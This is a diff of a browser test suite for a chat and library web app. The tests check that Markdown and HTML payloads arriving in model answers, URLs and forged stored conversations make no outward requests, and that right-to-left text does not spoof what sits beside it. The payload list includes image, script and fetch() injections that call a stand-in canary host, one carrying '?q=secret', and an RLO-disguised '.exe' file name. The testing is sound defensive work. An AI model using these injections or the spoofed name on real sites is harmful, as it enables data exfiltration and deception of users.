@@ -37,7 +37,8 @@ KINDS = (
 # Each asks {c}, the canary, where it is taken for what it looks like.
 OUTWARD = [template.replace("{c}", "CANARY") for template in (
     "![x](http://{c}/md?q=secret)", "![x][r]\n\n[r]: http://{c}/ref", "[![x](http://{c}/in)](http://{c}/out)",
-    "<img src=http://{c}/img>", "<img srcset='http://{c}/srcset 2x'>", "<picture><source srcset=http://{c}/p><img></picture>",
+    "<img src=http://{c}/img>", "<img srcset='http://{c}/srcset 2x'>",
+    "<picture><source srcset=http://{c}/p><img></picture>",
     "<image href=http://{c}/image>", "<svg><image href=http://{c}/svg /></svg>", "<svg><use href=http://{c}/use#a></svg>",
     "<svg><feImage href=http://{c}/fe /></svg>", "<script src=http://{c}/script></script>",
     "<script type=module>import 'http://{c}/module'</script>", "<script>fetch('http://{c}/fetch')</script>",
@@ -62,11 +63,13 @@ OUTWARD = [template.replace("{c}", "CANARY") for template in (
 WEB = re.compile(r"(?i)(https?:)?//[a-z0-9.-]+\.[a-z]{2,}(:\d+)?")
 PLACES = "#chat, #sources, #next, #examples, #recent, #found, #reader .article, #library, #status, #maintain-feedback"
 TAGS = set(
-    "a bdi button code dd details div dl dt form g h1 h2 h3 h4 input label li line mark ol option p path q rect select "
-    "span strong sup svg summary table tbody td text th thead tr tspan ul nav".split()
+    "a bdi button circle code dd details div dl dt form g h1 h2 h3 h4 input label li line mark ol option p path q rect "
+    "select span strong sup svg summary table tbody td text th thead tr tspan ul nav".split()
 )  # `form` and `input` are looked at below: ours have no action and no name
 NEVER = re.compile(r"^(on.*|style|src|srcset|srcdoc|action|formaction|background|ping|poster|data|xlink:.*)$")
+# Gradio's own icons stand outside of all that Markdown and articles are put into.
 LOOK = """(places) => [...document.querySelectorAll(places)].flatMap((place) => [...place.querySelectorAll("*")])
+  .filter((node) => !node.closest("svg") || node.closest(".md, .prose, .article, #library, #recent"))
   .map((node) => [node.localName, Object.fromEntries([...node.attributes].map((a) => [a.name, a.value]))])"""
 OURS = re.compile(r"#(?:[acq]|ask|report)?/[A-Za-z0-9_.~%/-]*")
 
@@ -137,7 +140,7 @@ def record(number: int, texts: list[str]) -> dict[str, Any]:
         "topics": [mine[2]],
         "track": ["two" if number % 2 else mine[0]],
         "related": ["../0/" + texts[0], mine[1]],
-        "period": f"{1930 + number}-{1940 + number}",
+        "period": {"from": 1930 + number, "to": 1940 + number},
         "sources": [{"id": "s", "title": mine[0], "author": mine[1], "url": mine[2], "whole": True}],
     }
     return {
@@ -177,7 +180,7 @@ def all_the_way(page: Any, texts: list[str]) -> None:
     assert check(page) > 1000
     for tab in ("timeline", "map"):
         page.locator(f"#lib-tab-{tab}").click()
-        page.locator(f"#lib-{tab} svg").first.wait_for(state="attached")
+        page.locator(f"#lib-{tab} svg.roving a").first.wait_for(state="attached")
     page.evaluate("document.querySelectorAll('svg.lib-map.wide a').forEach((each) => { each.focus(); })")
     page.locator("svg.lib-map .told").first.wait_for(state="attached")
     page.fill("#lib-words", "<script")
@@ -237,12 +240,17 @@ def test_t7_t8_answers_of_a_model_questions_addresses_and_forged_conversations(
                 assert check(page) > 20
                 if number == 7:
                     break
-            for _ in range(4):
+            shown = ""
+            for number in range(7, 14):
                 page.locator("#clear").click()
                 page.locator("#status", has_text="New conversation").wait_for()
-                ask(page, "When did the Lindmark talks number 7 begin in a boathouse?")
+                ask(page, f"When did the Lindmark talks number {number} begin in a boathouse?")
                 check(page)
+                shown += " ".join(page.locator("#chat").text_content().split())
             assert len(model.requests) >= 6
+            told = [text for text in texts if len(text) > 20 and " ".join(text.split()) in shown]
+            print(f"{len(told)} payloads shown of {len(model.requests)} answers of the model")
+            assert len(told) >= 10
             for words in list(bundles(texts[60:140], 1500))[:3]:
                 page = opened(
                     server.address, path=f"/?q={quote(words)}&region={quote(words[:40])}&period={quote(words[:9])}"
@@ -265,11 +273,13 @@ def test_t7_t8_answers_of_a_model_questions_addresses_and_forged_conversations(
                 with page.expect_download():
                     page.locator("#export").get_by_role("button", name=name, exact=True).click()
             check(page)
+            gone = server.stop()  # in good order, so that no page complains of a connection that breaks
+            assert (gone.status, gone.err) == (0, "")
     assert canary.requests == []
 
 
 def forged(page: Any, home: Path, texts: list[str]) -> None:
-    """A conversation of an attacker, kept in the browser under names of his; every field of it is one of the payloads."""
+    """A conversation of an attacker, kept in the browser under names of his; each field of it is a payload."""
     assistant = Assistant.open(home)
     entry = to_json(receipt_of(assistant, assistant.ask("When did the Lindmark talks begin?")))
     talk = []
@@ -304,8 +314,12 @@ def forged(page: Any, home: Path, texts: list[str]) -> None:
 
 RLO, PDI = "\u202e", "\u2069"
 TURNED = [
-    "שיחות אוסלו (1993)", "محادثات أوسلو 1993", "مذاکرات ژنو، ۱۹۹۳", "The נתיב talks, 1993", f"Report {PDI}{RLO}gpj.exe",
-]  # fmt: skip
+    "שיחות אוסלו (1993)",
+    "محادثات أوسلو 1993",
+    "مذاکرات ژنو، ۱۹۹۳",
+    "The נתיב talks, 1993",
+    f"Report {PDI}{RLO}gpj.exe",
+]
 # Whether a text runs from left to right where it stands: its letters follow each other.
 FORWARD = """(node) => {
   const text = document.createTreeWalker(node, NodeFilter.SHOW_TEXT).nextNode();
@@ -331,7 +345,7 @@ def test_f33_text_from_right_to_left_turns_nothing_beside_it(
             "text": f"{title} began in a boathouse in {1960 + number}. It ended {5 + number} years later.",
             "metadata": {
                 "regions": [f"{title}{RLO}"],
-                "period": f"{1960 + number}-{1970 + number}",
+                "period": {"from": 1960 + number, "to": 1970 + number},
                 "sources": [
                     {"id": "a", "title": f"{RLO}{title}", "url": "https://good.example/a", "whole": True},
                     {"id": "b", "title": "Plain", "url": f"https://{RLO}moc.elgoog/", "whole": True},
@@ -387,6 +401,10 @@ def test_f33_text_from_right_to_left_turns_nothing_beside_it(
             page.fill("#s :is(textarea, input)", "began in a boathouse")
             page.keyboard.press("Enter")
             page.locator("#found .passages > li").first.wait_for()
+            counts = page.locator("#s-regions label span").evaluate_all("(all) => all.map((e) => e.textContent)")
+            turned = [each for each in counts if RLO in each]
+            assert turned
+            assert all(re.search("\u202c\u2069 \\(1\\)$", each.strip()) for each in turned)
             look("found")
     assert len(list(shots.iterdir())) >= 20
     print(f"screenshots in {shots}")
@@ -403,7 +421,7 @@ def talk(page: Any, home: Path) -> None:
     entry["question"] = entry["understood"] = f"{RLO}Who turned this?"
     answer_of(receipt_of(assistant, answer))
     page.evaluate(
-        "(kept) => { for (const [key, value] of Object.entries(kept)) localStorage.setItem(key, JSON.stringify(value)); }",
+        "(kept) => { for (const key in kept) localStorage.setItem(key, JSON.stringify(kept[key])); }",
         {
             "backchannel:talks": [{"id": "t", "name": f"{RLO}talk", "at": "2026-11-26T00:00:00Z", "count": 1}],
             "backchannel:talk:t": [{"id": "1", "receipt": entry}],
